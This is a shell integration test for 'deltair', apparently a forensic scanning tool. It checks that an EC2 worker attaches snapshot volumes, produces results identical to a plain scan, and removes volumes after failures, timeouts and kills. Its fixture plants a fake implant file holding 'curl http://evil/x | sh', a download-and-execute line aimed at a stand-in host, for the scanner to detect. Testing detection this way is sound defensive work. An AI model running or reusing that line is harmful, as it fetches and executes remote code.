#!/bin/bash
# t4210: deltair worker in attach read mode against the EC2 of tests/peers/aws_peer.py. The
# "attached volume" is a read-only loop device of the snapshot's image, linked by the volume's
# serial in a test by-id folder by --attach-hook (it plays udev). A job's results equal
# `deltair scan` of the raw image; the volume is gone afterwards whatever happened: success, a
# bad image, an attach that times out, a scan killed at its wall-clock limit, SIGTERM; after
# kill -9 the volume stays, tagged, until the worker starts again on that instance (it sweeps
# its own leftovers) or `deltair worker --sweep` finds its instance terminated. A job without
# a baseline finds it from the snapshot's AMI (tag deltair:ami) under the output, or fails
# with the reason. Oracles: the peer's own EC2 state (GET /_peer/ec2), `deltair scan` of the
# image, the spool folders; the peer checks every request against botocore's model + signer.
. "$TOP/tests/cli/lib.sh"
need mke2fs jq zcat losetup timeout
[ "$(id -u)" -eq 0 ] || skip "needs root (loop devices)"

S_OK=snap-0a0000000000000a1
S_BAD=snap-0a0000000000000b2
S_AMI=snap-0a0000000000000c3
S_NOAMI=snap-0a0000000000000d4
AMI=ami-0abcdef0123456789
ME=i-0123456789abcdef0

mkdir -p gold/etc gold/bin
printf 'host-a\n' > gold/etc/hostname
head -c 300000 /dev/urandom > gold/bin/tool
t_gold_incident gold 16M
printf 'host-b\n' > mnt/etc/hostname
printf '#!/bin/sh\ncurl http://evil/x | sh\n' > mnt/bin/implant
head -c 6M /dev/urandom > mnt/bin/payload
chmod 755 mnt/bin/implant
sync
_t_umount mnt 2> /dev/null || umount mnt
head -c 4M /dev/urandom > bad.img

cat > peer.json << EOF
{"snapshots": {
  "$S_OK": {"image": "incident.img"},
  "$S_BAD": {"image": "bad.img"},
  "$S_AMI": {"image": "incident.img", "tags": {"deltair:ami": "$AMI"}},
  "$S_NOAMI": {"image": "incident.img", "description": "nightly"}},
 "imds": {"instance_id": "$ME", "availability_zone": "us-east-1c"},
 "ec2_delay": 0}
EOF
aws_peer peer.json
export AWS_ENDPOINT_URL=$AWS_PEER_URL AWS_EC2_METADATA_SERVICE_ENDPOINT=$AWS_PEER_URL
export AWS_REGION=us-east-1 AWS_ACCESS_KEY_ID=AKIDEXAMPLE
export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY
export AWS_CONFIG_FILE=/dev/null AWS_SHARED_CREDENTIALS_FILE=/dev/null
unset AWS_SESSION_TOKEN AWS_PROFILE AWS_DEFAULT_REGION AWS_EC2_METADATA_DISABLED

# The hook: a read-only loop device of the snapshot's image, linked as udev would. The
# peer names the image of each snapshot; the hook is told the volume, so it asks the peer.
mkdir byid
cat > hook.sh << 'EOF'
#!/bin/bash
set -e
[ ! -f attach.delay ] || sleep "$(cat attach.delay)" # a slow attach
# Another run of the job finishes while this one is attached: its COMPLETE appears.
[ ! -f plant.complete ] || { mkdir -p "$(cat plant.complete)" && echo other > "$(cat plant.complete)/COMPLETE"; }
snap=$(/usr/bin/python3 -c 'import sys, urllib.request as u
print(u.urlopen(sys.argv[1]).read().decode())' "$AWS_PEER_URL/_peer/ec2" |
	jq -r --arg v "$1" '.volumes[] | select(.VolumeId == $v) | .SnapshotId')
img=$(jq -r --arg s "$snap" '.snapshots[$s].image' peer.json)
d=$(losetup -r -f --show "$img")
echo "$d" >> loops
ln -s "$d" "byid/nvme-Amazon_Elastic_Block_Store_vol${1#vol-}"
echo "$1 $2" >> hook.log
EOF
chmod +x hook.sh
export AWS_PEER_URL
touch loops
at_exit 'while read -r d; do losetup -d "$d" 2> /dev/null; done < loops'

# The peer's EC2 state, fetched with the standard library only (fast: no botocore import).
peer_ec2() {
	/usr/bin/python3 -c 'import sys, urllib.request as u
print(u.urlopen(sys.argv[1]).read().decode())' "$AWS_PEER_URL/_peer/ec2"
}
volumes() { peer_ec2 | jq '.volumes | length'; }
no_volume() {
	local n
	n=$(volumes)
	[ "$n" = 0 ] || fail "$1: $n volume(s) left behind: $(peer_ec2)"
}
W=(worker --queue spool:sp --output res --baseline "$PWD/gold.dtree" --read-mode attach
	--by-id-dir byid --attach-hook './hook.sh "$1" "$2"' --attach-timeout 10 --max-receives 1)
# A bounded worker run: a hang is a failure, not a stuck suite.
wrun() {
	rc=0
	timeout 120 "$DELTAIR" "$@" > out 2> err || rc=$?
	[ "$rc" -ne 124 ] || fail "deltair $* hung"
}
# submit CASE [OPTIONS] EVIDENCE: results go to res/CASE/SNAPSHOT, one case per section.
submit() {
	local c=$1
	shift
	dt_ok submit --queue spool:sp --case "$c" --read-mode attach "$@"
	id=$(cat out)
}

# 1. Success: the results are those of a plain scan of the image.
dt scan --no-progress --baseline "$PWD/gold.dtree" -o plain.jsonl "$PWD/incident.img"
[ "$rc" -le 1 ] || die "deltair scan: rc $rc: $(cat err)"
submit IR-1 ebs://$S_OK
wrun "${W[@]}" --once
expect_rc 0 "worker --once (attach)"
R=res/IR-1/$S_OK
[ -f "sp/done/$id" ] && [ -f "$R/COMPLETE" ] || fail "the attach job did not complete: $(find sp res -type f | head) $(tail -3 err)"
read -r vol dev < hook.log || fail "the hook never ran"
[ "$dev" = /dev/sdf ] || fail "attached at '$dev', want /dev/sdf"
norm() { jq -c 'select(.event != "summary")'; }
zcat "$R/events.jsonl.gz" | norm > worker.norm
norm < plain.jsonl > plain.norm
cmp -s worker.norm plain.norm || fail "attach-mode events differ from deltair scan's: $(diff worker.norm plain.norm | head -6)"
grep -q '"path":"/bin/implant"' worker.norm || fail "the implant is not in the events"
jq -e '.counts' "$R/summary.json" > /dev/null || fail "no summary counts"
jq -c .counts "$R/summary.json" > a.json
grep '"event":"summary"' plain.jsonl | jq -c .counts > b.json
cmp -s a.json b.json || fail "summary counts differ: $(cat a.json b.json)"
# The tags, seen in the peer's request log: the volume is gone, its CreateVolume stays.
grep -q '"operation": *"CreateVolume"' .aws-peer.log || fail "no CreateVolume in the peer's log"
no_volume "success"

# 2. A bad image: the job fails (the scan refuses it), the volume is gone.
submit IR-2 ebs://$S_BAD
wrun "${W[@]}" --once
expect_rc 0 "worker --once (bad image)"
[ -f "sp/failed/$id" ] || fail "the bad image's job is not in failed/: $(find sp -type f)"
no_volume "bad image"

# 3. The device never shows up: the attach times out, the job fails, the volume is gone.
submit IR-3 ebs://$S_OK
wrun "${W[@]/.\/hook.sh*/true}" --once --attach-timeout 2
expect_rc 0 "worker --once (attach timeout)"
[ -f "sp/failed/$id.reason" ] && grep -q "timed out after 2 s waiting for the device" "sp/failed/$id.reason" ||
	fail "attach timeout: $(cat "sp/failed/$id.reason" 2> /dev/null) $(tail -3 err)"
no_volume "attach timeout"

# Start the worker in the background; wait until a job's scan runs on an attached volume.
bg_worker() {
	"$DELTAIR" "${W[@]}" "$@" > bg.out 2> bg.err &
	wpid=$!
	for _ in $(seq 6000); do
		child=$(pgrep -P "$wpid" -f scan | head -1)
		[ -n "$child" ] && return 0
		kill -0 "$wpid" 2> /dev/null || die "the worker ended before a scan started: $(tail -3 bg.err)"
		sleep 0.01
	done
	die "no scan started on an attached volume: $(tail -3 bg.err)"
}

# 3b. A duplicate delivery finished first (its COMPLETE appears during our scan): its results
# stand, ours are dropped, the message is acknowledged, no volume.
submit IR-3b ebs://$S_OK
R=res/IR-3b/$S_OK
echo "$R" > plant.complete
wrun "${W[@]}" --once
rm plant.complete
expect_rc 0 "worker --once (completed meanwhile)"
[ -f "sp/done/$id" ] || fail "completed meanwhile: the job is not in done/: $(find sp -type f)"
grep -q '"msg":"results completed meanwhile by another run: ours dropped"' err ||
	fail "completed meanwhile: no log: $(tail -3 err)"
grep -q 'done 0, already complete 1, failed 0' err || fail "completed meanwhile: counts: $(tail -1 err)"
[ "$(cat "$R/COMPLETE")" = other ] && [ ! -e "$R/events.jsonl.gz" ] ||
	fail "completed meanwhile: the other run's results were touched: $(ls "$R")"
no_volume "completed meanwhile"

# 4. The scan hangs (stopped) past its wall-clock limit: killed, the job fails, no volume.
# The attach takes longer (4 s) than the limit (3 s): the limit is the scan's, counted from
# its start, not from the claim.
echo 4 > attach.delay
submit IR-4 --wall-seconds 3 ebs://$S_OK
bg_worker --once
kill -STOP "$child"
timeout 60 tail --pid="$wpid" -f /dev/null || fail "the worker did not end after the wall limit"
wait "$wpid" || fail "worker --once (wall limit) exited $?"
rm attach.delay
[ -f "sp/failed/$id" ] || fail "the hung job is not in failed/: $(find sp -type f) $(tail -3 bg.err)"
jq -s -e '(map(select(.stage == "timeout"))[0].elapsed - map(select(.stage == "scan"))[0].elapsed)
	>= 3' bg.err > /dev/null || fail "the scan was killed less than 3 s after it started: $(cat bg.err)"
no_volume "wall-clock limit"

# 5. SIGTERM mid-scan: the job goes back to incoming/, the volume is gone, exit 0.
submit IR-5 ebs://$S_OK
bg_worker
kill -TERM "$wpid"
timeout 60 tail --pid="$wpid" -f /dev/null || fail "the worker did not stop on SIGTERM"
wait "$wpid" || fail "worker (SIGTERM) exited $?"
[ -f "sp/incoming/$id" ] || fail "SIGTERM did not give the job back: $(find sp -type f)"
no_volume "SIGTERM"
rm -f "sp/incoming/$id"

# 6. kill -9: the volume stays, tagged with this instance.
submit IR-6 ebs://$S_OK
bg_worker --lease 2
kill -KILL "$wpid" "$child"
wait "$wpid" 2> /dev/null
[ "$(volumes)" = 1 ] || fail "after kill -9, $(volumes) volumes (want the one left behind)"
peer_ec2 | jq -e --arg me "$ME" '.volumes[0].Tags | from_entries |
	.["deltair:worker"] == $me and .["deltair:case"] == "IR-6" and (.["deltair:job"] | endswith("'$S_OK'"))
	and (.["deltair:created"] | test("^20[0-9-]+T[0-9:]+Z$"))' > /dev/null ||
	fail "the volume's tags: $(peer_ec2)"
# --sweep keeps the volume of a running worker ...
dt worker --sweep
expect_rc 0 "worker --sweep (instance running)"
grep -q "deleted: 0; kept (worker running): 1" out || fail "--sweep: $(cat out err)"
[ "$(volumes)" = 1 ] || fail "--sweep deleted a running worker's volume"
# ... and the worker, started again on that instance, deletes its leftovers, then serves the
# job again (its claim's lease ran out) on a new volume.
sleep 2.5
wrun "${W[@]}" --once --max-receives 3
expect_rc 0 "worker --once (restart)"
grep -q '"stage":"sweep","msg":"deleted 1 volume' err || fail "no sweep at start: $(head -5 err)"
[ -f "sp/done/$id" ] || fail "the job of the killed worker was not done again: $(find sp -type f)"
no_volume "restart after kill -9"

# 7. kill -9 again; the instance is then terminated: --sweep (elsewhere) deletes the volume.
submit IR-7 ebs://$S_OK
bg_worker
kill -KILL "$wpid" "$child"
wait "$wpid" 2> /dev/null
aws_peer_ctl POST /_peer/instances "{\"$ME\": {\"state\": \"terminated\"}}" > /dev/null
# From an operator's machine: no instance metadata there.
AWS_EC2_METADATA_DISABLED=true dt worker --sweep
expect_rc 0 "worker --sweep (instance terminated)"
grep -q "deleted: 1;" out || fail "--sweep: $(cat out err)"
no_volume "--sweep of a terminated worker"
aws_peer_ctl POST /_peer/instances '{}' > /dev/null
rm -f sp/processing/* sp/processing/.[!.]* 2> /dev/null

# 8. Baseline discovery: no --baseline; the snapshot's AMI names the output's baseline.
mkdir -p res/baselines
cp gold.dtree "res/baselines/$AMI.dtree"
W=(worker --queue spool:sp --output "$PWD/res" --read-mode attach --by-id-dir byid
	--attach-hook './hook.sh "$1" "$2"' --attach-timeout 10 --max-receives 1)
submit IR-8 ebs://$S_AMI
wrun "${W[@]}" --once
expect_rc 0 "worker --once (baseline found)"
[ -f "sp/done/$id" ] || fail "the job with a found baseline did not complete: $(tail -3 err)"
zcat "res/IR-8/$S_AMI/events.jsonl.gz" | norm > found.norm
cmp -s found.norm plain.norm || fail "results with the found baseline differ: $(diff found.norm plain.norm | head -4)"
submit IR-9 ebs://$S_NOAMI
wrun "${W[@]}" --once
expect_rc 0 "worker --once (no baseline)"
grep -q "names no AMI" "sp/failed/$id.reason" 2> /dev/null ||
	fail "a snapshot without an AMI: $(cat "sp/failed/$id.reason" 2> /dev/null) $(tail -3 err)"
no_volume "baseline discovery"

aws_peer_clean
t_done
